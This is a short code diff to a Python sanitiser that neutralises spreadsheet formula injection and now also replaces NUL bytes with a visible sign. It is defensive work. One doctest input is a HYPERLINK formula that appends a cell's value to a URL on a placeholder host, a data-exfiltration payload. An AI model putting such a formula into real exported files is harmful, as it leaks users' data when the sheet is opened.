@@ -21,12 +21,12 @@ def neutral(value: Any) -> str:
     --------
     >>> neutral('=HYPERLINK("http://x/?d="&A1,"点此")')[:3], neutral("-5"), neutral(None), neutral(12)
     ("'=H", "'-5", '', '12')
-    >>> neutral("\\n=1+1"), neutral("＠SUM(1)")
-    ("'\\n=1+1", "'＠SUM(1)")
+    >>> neutral("\\n=1+1"), neutral("＠SUM(1)"), neutral("甲\\x00乙")
+    ("'\\n=1+1", "'＠SUM(1)", '甲␀乙')
     """
     if value is None:
         return ""
-    return neutralise(str(value))
+    return neutralise(str(value).replace("\x00", "␀"))  # a NUL shown as the sign for it, not a broken file
 
 
 class Rejects:
